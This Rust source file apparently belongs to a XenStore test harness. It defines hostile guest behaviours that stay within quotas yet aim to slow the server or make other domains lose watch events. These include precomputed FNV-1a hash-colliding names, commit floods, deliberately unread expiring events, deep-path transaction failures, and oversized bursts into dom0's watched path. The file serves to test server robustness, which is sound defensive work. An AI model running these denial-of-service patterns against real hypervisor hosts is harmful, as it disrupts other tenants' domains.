//! Shapes of requests within every quota that can make a server slow, or cost other domains their events. Each function plays
//! one shape until its time is up, and returns its counts. An attack begins when dom0 writes `data/go`.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use xenstore::wire::header::MessageType as T;
use xenstore::wire::ring::Field;

use crate::xen::sched::{self, Reason};
use crate::xen::time;

use super::Attack;
use super::client::Client;

/// The most watches that a domain may set by default.
const WATCHES: usize = 128;

/// Parts of names. A name has one part of each pair, and `data/` with any such name has the same 32-bit FNV-1a hash. A server
/// that finds equal events by that hash must compare all of them. For other servers the names are ordinary.
const NAMES: [[&str; 2]; 5] =
    [["2ffu6k", "bsfwtj"], ["tmz7au", "4xotlk"], ["4yspbw", "znlnq8"], ["v5h7jl", "2t4nqe"], ["2noefq", "o2qebp"]];

/// Parts of tokens. An event of any such name and any such token has the same hash.
const TOKENS: [[&str; 2]; 7] = [
    ["g3eagy", "z4jw2u"],
    ["qo95t4", "bn43kt"],
    ["34sxxi", "4al3y8"],
    ["5lp2me", "ateex2"],
    ["q9131b", "qjeokg"],
    ["18elwn", "fqkt49"],
    ["ghq1mm", "wkaqef"],
];

/// Joins every choice of parts.
fn spell(parts: &[[&str; 2]]) -> Vec<String> {
    let choose = |choice: usize| parts.iter().enumerate().map(|(at, pair)| pair[choice >> at & 1]).collect();
    (0..1 << parts.len()).map(choose).collect()
}

fn fnv(bytes: &[u8]) -> u32 {
    bytes.iter().fold(0x811c_9dc5, |hash, byte| (hash ^ u32::from(*byte)).wrapping_mul(0x0100_0193))
}

/// Makes no attack: sends the cheapest requests, as fast as the server answers them. The test compares attacks with
/// this.
pub(super) fn busy(attack: &mut Attack<'_>) -> String {
    let mut pipe = attack.pipeline();
    pipe.await_go();
    while pipe.goes_on() {
        pipe.send(T::Read, 0, b"data/go\0");
    }
    format!("reads={}", pipe.answers)
}

/// Causes events of one hash for the guest's own watches, again and again.
pub(super) fn collide(attack: &mut Attack<'_>) -> String {
    let (names, tokens) = (spell(&NAMES), spell(&TOKENS));
    let hash_of = |name: &String, token: &String| fnv(format!("data/{name}\0{token}\0").as_bytes());
    let hashes = names.iter().flat_map(|name| tokens.iter().map(move |token| hash_of(name, token)));
    assert!(hashes.into_iter().all(|hash| hash == hash_of(&names[0], &tokens[0])), "the names collide");
    let mut pipe = attack.pipeline();
    pipe.await_go();
    for token in &tokens {
        pipe.send(T::Watch, 0, format!("data\0{token}\0").as_bytes());
    }
    pipe.settle();
    let (watches, mut commits) = (pipe.answers, 0);
    while pipe.goes_on() {
        let id = pipe.prepare(names.iter().map(|name| format!("data/{name}")));
        commits += u64::from(id.and_then(|id| pipe.commit(id)).is_some_and(|answer| answer.is_ok()));
        pipe.drain();
    }
    format!("watches={watches} commits={commits} events={}", pipe.events)
}

/// Watches the home of a guest that plays [`repeat`], and then reads nothing.
pub(super) fn sleep(attack: &mut Attack<'_>) -> String {
    let mut pipe = attack.pipeline();
    let peer = pipe.await_go();
    for at in 0..WATCHES {
        pipe.send(T::Watch, 0, format!("/local/domain/{peer}/data\0{at}\0").as_bytes());
    }
    pipe.settle();
    let watches = pipe.answers;
    pipe.ask(T::Write, 0, b"data/ready\0");
    pipe.drain();
    // The attack is that the guest reads nothing until its time is up. There is no event to wait for.
    while pipe.goes_on() {
        sched::sleep(time::now_ns() + 100_000_000);
    }
    format!("watches={watches}")
}

/// Nodes that one commit writes. A server with 8 MiB has memory for their events for [`WATCHES`] watches.
const NODES: usize = 100;
/// Commits that fill a queue: the server has no memory for the events of all of them.
const COMMITS: usize = 4;

fn path(at: usize) -> String {
    format!("data/w{at:03}")
}

/// Fills the accomplice's queue with commits. Then it writes the nodes of one commit again and again, whose events are pending.
pub(super) fn repeat(attack: &mut Attack<'_>) -> String {
    let mut pipe = attack.pipeline();
    let peer = pipe.await_go();
    let own = pipe.ask(T::Read, 0, b"domid\0").and_then(Result::ok).unwrap_or_default();
    let grant = [b"data\0n", &own[..], b"\0r", peer.as_bytes(), b"\0"].concat();
    let granted = pipe.ask(T::SetPerms, 0, &grant).is_some_and(|answer| answer.is_ok());
    let mut commits = 0;
    for commit in 0..COMMITS {
        let id = pipe.prepare((commit * NODES..(commit + 1) * NODES).map(path));
        commits += u64::from(id.and_then(|id| pipe.commit(id)).is_some_and(|answer| answer.is_ok()));
    }
    let before = pipe.answers;
    for at in (NODES..2 * NODES).cycle() {
        if !pipe.send(T::Write, 0, format!("{}\0y", path(at)).as_bytes()) || !pipe.goes_on() {
            break;
        }
    }
    format!("granted={} commits={commits} writes={}", u64::from(granted), pipe.answers - before)
}

/// Leaves events with many different deadlines unread, and then many events with nearly the same one.
pub(super) fn expire(attack: &mut Attack<'_>) -> String {
    /// With the commits, fewer than the requests that may be outstanding.
    const TIMES: usize = 15;
    let mut pipe = attack.pipeline();
    pipe.await_go();
    for at in 0..WATCHES {
        pipe.send(T::Watch, 0, format!("data\0{at}\0").as_bytes());
    }
    let prepare = |commit| pipe.prepare((commit * NODES..(commit + 1) * NODES).map(path)).unwrap_or(0);
    let open: Vec<u32> = (0..COMMITS).map(prepare).collect();
    pipe.drain();
    let mut unread = 0;
    let (end_ms, client) = (pipe.end_ms, pipe.client);
    for at in 0..TIMES {
        let request = client.request(T::Write.to_wire(), 0, format!("data/e{at}\0x").as_bytes());
        unread += u64::from(client.send(&request, 1000));
        // With a pause after each request, the events of each request have a deadline of their own.
        sched::sleep(time::now_ns() + 50_000_000);
    }
    let mut commits = 0;
    for id in open {
        let request = client.request(T::TransactionEnd.to_wire(), id, b"T\0");
        commits += u64::from(client.send(&request, 1000));
    }
    // The guest reads nothing until its time is up, so that its events expire. There is no event to wait for.
    while time::now_ms() < end_ms {
        sched::sleep(time::now_ns() + 100_000_000);
    }
    format!("unread={unread} commits={commits}")
}

/// Lets three transactions fail because the lower part of a deep tree is gone.
pub(super) fn blame(attack: &mut Attack<'_>) -> String {
    const UPPER: usize = 680;
    const LOWER: usize = 300;
    let mut pipe = attack.pipeline();
    pipe.await_go();
    let path = |lower: usize| format!("data{}{}\0", "/a".repeat(UPPER), "/b".repeat(lower));
    let (mut again, mut others) = (0_u64, 0_u64);
    while pipe.goes_on() {
        pipe.send(T::Mkdir, 0, path(LOWER).as_bytes());
        let mut open = Vec::new();
        for _ in 0..3 {
            let Some(id) = pipe.start() else { break };
            for level in 1..=LOWER {
                pipe.send(T::Read, id, path(level).as_bytes());
            }
            open.push(id);
        }
        pipe.send(T::Rm, 0, path(1).as_bytes());
        pipe.settle();
        for id in open {
            match pipe.commit(id) {
                Some(Err(error)) if error.starts_with(b"EAGAIN") => again += 1,
                Some(_) => others += 1,
                None => {}
            }
        }
    }
    format!("again={again} others={others}")
}

/// Names nodes far below any that exist.
pub(super) fn missing(attack: &mut Attack<'_>) -> String {
    let mut pipe = attack.pipeline();
    pipe.await_go();
    let path = format!("data{}\0", "/m".repeat(1000));
    while pipe.goes_on() {
        pipe.send(T::Read, 0, path.as_bytes());
        // One node more than a domain may have.
        pipe.send(T::Mkdir, 0, path.as_bytes());
    }
    format!("refused={} granted={}", pipe.errors, pipe.answers)
}

/// Paths of a commit whose events are more than 1 MiB, below `data/state`, which dom0 watches. The long paths come first. The
/// short ones fill the rest of a queue.
fn burst_paths() -> impl Iterator<Item = String> {
    const LONG: usize = 660;
    const SHELF: usize = 330;
    const SHORT: usize = 250;
    let shelf = format!("data/state/{}/{}", "p".repeat(950), "q".repeat(930));
    let long = (0..LONG).map(move |at| format!("{shelf}{}/{:03}", at / SHELF, at % SHELF));
    long.chain((0..SHORT).map(|at| format!("data/state/{at:03}")))
}

/// Commits the nodes of [`burst_paths`], makes small changes, removes all nodes and starts again.
pub(super) fn burst(attack: &mut Attack<'_>) -> String {
    /// With the commit, fewer than the requests that may be outstanding.
    const SMALL: usize = 15;
    let mut pipe = attack.pipeline();
    pipe.await_go();
    let mut commits = 0;
    while pipe.goes_on() {
        let Some(id) = pipe.prepare(burst_paths()) else { break };
        pipe.send(T::TransactionEnd, id, b"T\0");
        for at in 0..SMALL {
            pipe.send(T::Write, 0, format!("data/state/t{at}\0x").as_bytes());
        }
        commits += u64::from(pipe.settle());
        pipe.ask(T::Rm, 0, b"data/state\0");
    }
    format!("commits={commits} refused={}", pipe.errors)
}

/// Commits the nodes of [`burst_paths`] and crashes, so that the domain ends while its events fill dom0's queue.
pub(super) fn exit(attack: &mut Attack<'_>) -> ! {
    let mut pipe = attack.pipeline();
    pipe.await_go();
    let id = pipe.prepare(burst_paths());
    log::info!("hostile: exit has prepared {} changes", pipe.answers);
    pipe.send(T::TransactionEnd, id.unwrap_or(0), b"T\0");
    let client = pipe.client;
    while client.load(Field::RequestConsumer) != client.load(Field::RequestProducer) {
        Client::rest();
    }
    sched::shutdown(Reason::Crash)
}
